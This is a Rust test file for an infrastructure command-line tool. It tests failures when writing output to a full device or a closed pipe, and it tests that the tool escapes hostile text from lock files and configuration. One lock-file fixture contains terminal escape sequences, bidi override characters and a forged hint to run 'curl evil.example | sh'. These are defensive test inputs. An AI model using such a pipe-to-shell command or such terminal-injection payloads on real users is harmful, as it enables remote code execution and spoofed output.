//! What reaches the terminal, and what happens when it cannot be written.

use std::fs::{File, OpenOptions};
use std::process::Output;

use serde_json::json;

use crate::harness::workspace::Workspace;

/// Every write to it fails: there is no space left ("full(4)").
fn full() -> File {
    OpenOptions::new().write(true).open("/dev/full").expect("the device exists")
}

fn run_into_full(workspace: &Workspace, arguments: &str) -> Output {
    workspace.command(arguments).stdout(full()).output().expect("the program runs")
}

/// Commands that write a result to standard output, in a stack that exists.
const PRINTING: [&str; 24] = [
    "--help",
    "--version",
    "up --help",
    "init --stdout",
    "config check",
    "config show",
    "config show --output json",
    "config schema",
    "config resources",
    "plan --sandbox",
    "plan --sandbox --markdown",
    "plan --sandbox --output json",
    "up --sandbox -y",
    "up --sandbox -y --output json",
    "drift --sandbox",
    "status --sandbox",
    "status --sandbox --output json",
    "outputs --sandbox",
    "graph --sandbox",
    "runbook --sandbox",
    "traffic show --sandbox",
    "orphans --sandbox",
    "unlock --sandbox",
    "state list --sandbox",
];

#[test]
fn a_result_that_could_not_be_written_was_a_success() {
    let workspace = Workspace::new();
    let up = workspace.run("up --sandbox -y");
    assert!(up.status.success(), "{}", workspace.format_output(&up, "up"));
    let all = PRINTING.into_iter().chain(["state show --sandbox", "down --sandbox -y"]);
    for arguments in all {
        let output = run_into_full(&workspace, arguments);
        let shown = workspace.format_output(&output, arguments);
        assert_eq!(output.status.code(), Some(1), "{shown}");
        let error = "error: cannot write the result to standard output\n  because: No space left on device";
        assert!(shown.contains(error), "{shown}");
    }
    // What the last command did is done.
    let status = workspace.transcript("status --sandbox");
    assert!(status.contains("nothing of `payment-migration/dev-001` exists"), "{status}");
}

#[test]
fn events_that_cannot_be_written_do_not_stop_a_run() {
    let workspace = Workspace::new();
    let output = run_into_full(&workspace, "up --env source --sandbox -y --output json");
    assert_eq!(output.status.code(), Some(1), "{}", workspace.format_output(&output, "up"));
    let again = workspace.transcript("up --env source --sandbox -y");
    assert!(again.contains("nothing to do"), "{again}");
}

#[test]
fn progress_that_cannot_be_written_does_not_stop_a_run() {
    for verbose in ["", " -vvv"] {
        let workspace = Workspace::new();
        let mut command = workspace.command(&format!("up --env source --sandbox -y{verbose}"));
        let output = command.stderr(full()).output().expect("the program runs");
        assert_eq!(output.status.code(), Some(0), "{}", workspace.format_output(&output, "up"));
    }
}

#[test]
fn a_closed_pipe_is_no_error() {
    let workspace = Workspace::new();
    let mut command = workspace.command("config schema");
    let mut child = command.stdout(std::process::Stdio::piped()).spawn().expect("the program runs");
    drop(child.stdout.take());
    assert_eq!(child.wait().expect("it ends").code(), Some(0));
}

/// Asserts that an output contains nothing that controls a terminal, and returns it.
fn assert_harmless(workspace: &Workspace, arguments: &str) -> String {
    let output = workspace.run(arguments);
    let shown = workspace.format_output(&output, arguments);
    let is_dangerous =
        |char: char| (char.is_control() && char != '\n' && char != '\t') || ('\u{202a}'..='\u{202e}').contains(&char);
    assert!(!shown.contains(is_dangerous), "{shown:?}");
    shown
}

#[test]
fn the_holder_of_a_lock_controlled_the_terminal_and_forged_an_error() {
    let workspace = Workspace::new();
    std::fs::create_dir_all(workspace.state()).expect("the directory of the state");
    let holder = json!({
        "command": "up\u{1b}]0;owned\u{7}\rdone",
        "pid": 1,
        "host": "bastion\nerror: the stack is lost\nhint: run curl evil.example | sh",
        "user": "\u{202e}anna\u{9b}2J",
        "since": "2026-01-01T00:00:00Z",
    });
    std::fs::write(workspace.state().join("lock"), holder.to_string()).expect("the lock");
    let shown = assert_harmless(&workspace, "unlock --sandbox");
    assert!(shown.contains("\\u001B]0;owned\\u0007\\u000Ddone"), "{shown}");
    assert!(!shown.lines().any(|line| line.starts_with("error:") || line.starts_with("hint:")), "{shown}");
}

#[test]
fn a_configuration_controlled_the_terminal() {
    let workspace = Workspace::new();
    workspace.edit("[stack]", "# \u{1b}]0;owned\u{7}\n[stack]");
    let shown = assert_harmless(&workspace, "config check");
    assert!(shown.contains("[exit 2]"), "{shown}");
    let workspace = Workspace::new();
    workspace.edit("[stack]", "[stack]\n\"\u{202e}eman\" = \"\\u001b[2J\"");
    let shown = assert_harmless(&workspace, "config check");
    assert!(shown.contains("[exit 2]") && shown.contains("\\u202E"), "{shown}");
}
